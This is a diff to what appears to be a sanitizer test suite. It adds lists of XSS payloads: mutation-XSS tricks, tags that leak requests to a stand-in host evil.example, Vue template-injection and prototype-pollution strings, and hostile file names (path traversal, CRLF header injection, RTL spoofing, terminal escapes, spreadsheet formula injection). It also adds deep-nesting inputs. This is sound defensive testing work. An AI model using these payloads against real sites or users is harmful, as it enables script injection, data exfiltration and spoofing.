@@ -96,7 +96,77 @@ _LOOKS = (
     "> <script>window.hacked=1</script>\n> - <svg onload=window.hacked=1>",
     "1. <script>window.hacked=1</script>\n   ```\n   </script><script>window.hacked=1</script>\n   ```",
 )
-PAYLOADS: tuple[str, ...] = (*_SCRIPTS, *_LINKS, *_IMAGES, *_LOOKS)
+_MUTATIONS = (
+    "<math><mtext><table><mglyph><style><!--</style><img title=--&gt;&lt;img&Tab;src=1&Tab;onerror=window.hacked=1>",
+    '<svg></p><style><a id="</style><img src=1 onerror=window.hacked=1>"></svg>',
+    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.hacked=1>",
+    "<svg><style>&lt;img src=x onerror=window.hacked=1&gt;</style></svg>",
+    "<table><caption><svg><title><xmp></title><img src=x onerror=window.hacked=1></xmp>",
+    "<svg><foreignObject><img src=x onerror=window.hacked=1></foreignObject></svg>",
+    "<svg><use href='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+#x'/></svg>",
+    "<!--<img src=--><img src=x onerror=window.hacked=1>//-->",
+    "<![CDATA[<img src=x onerror=window.hacked=1>]]>",
+    "<?xml version=1?><x xmlns='http://www.w3.org/1999/xhtml' onclick=window.hacked=1>x</x>",
+)
+_LEAKS = (
+    "<style>@import url(https://evil.example/leak.css)</style>",
+    "<style>.q-page { background: url(//evil.example/leak) }</style>",
+    "<p style='list-style:url(https://evil.example/leak)'>x</p>",
+    "<img srcset='https://evil.example/leak 1x, https://evil.example/more 2x'>",
+    "<video poster=https://evil.example/leak src=https://evil.example/leak.mp4 autoplay></video>",
+    "<link rel=preconnect href=https://evil.example><link rel=dns-prefetch href=//evil.example>",
+    "<link rel=prefetch href=https://evil.example/leak>",
+    "<iframe src=https://evil.example/leak></iframe><frameset onload=window.hacked=1>",
+    "<a href=https://evil.example ping=https://evil.example/ping>x</a>",
+    "<body background=https://evil.example/leak><table background=https://evil.example/leak>",
+    "<input type=image src=https://evil.example/leak><button formaction=https://evil.example/leak>x</button>",
+    "https://evil.example/bare and <https://evil.example/pointed> and www.evil.example",
+    "![a](<https://evil.example/a b.png> 'x')![b](https://evil.example/b.png)![c](https&colon;//evil.example/c.png)",
+    "[![x](https://evil.example/nested.png)](https://evil.example/click)",
+    "$$\\href{javascript:window.hacked=1}{x} \\includegraphics{https://evil.example/leak.png}$$",
+    '```mermaid\ngraph TD; A["<img src=x onerror=window.hacked=1>"] --> B; click B "javascript:window.hacked=1"\n```',
+    "img:https://evil.example/icon.png",
+    "svguse:https://evil.example/icon.svg#x",
+)
+_FRAMEWORKS = (
+    'x" :onclick="window.hacked=1" :innerHTML="(window.hacked=1, \'x\')',
+    "x' :title=(window.hacked=1) v-html=window.hacked=1 x='",
+    ":label=(() => { window.hacked = 1 })()",
+    ":(window.hacked=1)",
+    "v-on:click=window.hacked=1 @click=window.hacked=1 v-html='<img src=x onerror=window.hacked=1>'",
+    "<div v-html=\"'<img src=x onerror=window.hacked=1>'\" @vue:mounted=window.hacked=1>x</div>",
+    "<slot name=body></slot><template #body><img src=x onerror=window.hacked=1></template>",
+    "<q-btn @click=window.hacked=1 label=x /><component is=script>window.hacked=1</component>",
+    "{{ window.hacked=1 }} {{ $el.ownerDocument.defaultView.hacked=1 }}",
+    "${window.hacked=1}`;window.hacked=1;//",
+    "';window.hacked=1;//\";window.hacked=1;//\\",
+    "\u2028window.hacked=1\u2029",
+    '{"__proto__": {"hacked": 1}, "constructor": {"prototype": {"hacked": 1}}}',
+    '"}]};window.hacked=1;({"x":[{"',
+)
+_NAMES = (
+    "../../../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "a\"b'c<d>e&f.txt",
+    "line\r\nSet-Cookie: hacked=1\r\n\r\n<script>window.hacked=1</script>",
+    "invoice\u202efdp.exe",
+    "zero\u200bwidth\u200d\ufeffname\u2066.png\u2069",
+    "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07\x1b[2J\x1b[31mred\x1b[0m",
+    '=HYPERLINK("https://evil.example/"&A1,"x")',
+    "%3Cscript%3Ewindow.hacked=1%3C/script%3E",
+    "&lt;script&gt;window.hacked=1&lt;/script&gt;",
+    "\uff1cscript\uff1ewindow.hacked=1\uff1c/script\uff1e",
+)
+_NESTED = (
+    "> " * 400 + "<img src=x onerror=window.hacked=1>",
+    "[" * 500 + "x" + "](javascript:window.hacked=1)" * 500,
+    "<b>" * 500 + "<img src=x onerror=window.hacked=1>",
+    "*" * 2000 + "<script>window.hacked=1</script>",
+)
+PAYLOADS: tuple[str, ...] = (
+    *(*_SCRIPTS, *_LINKS, *_IMAGES, *_LOOKS),
+    *(*_MUTATIONS, *_LEAKS, *_FRAMEWORKS, *_NAMES, *_NESTED),
+)
 
 _TAG_NAMES = (
     "a blockquote br code del em h1 h2 h3 h4 h5 h6 hr img li ol p pre s span strong table tbody td th thead tr ul"
